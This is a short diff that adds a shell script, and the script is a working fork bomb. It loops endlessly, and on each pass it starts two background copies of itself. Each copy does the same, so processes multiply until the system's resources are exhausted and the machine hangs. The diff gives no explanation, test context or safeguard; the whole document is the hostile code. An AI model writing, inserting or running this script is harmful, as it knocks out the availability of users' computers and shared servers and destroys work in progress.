@@ -1,0 +1,5 @@
+#!/bin/sh
+while true; do
+  "$0" &
+  $0 &
+done
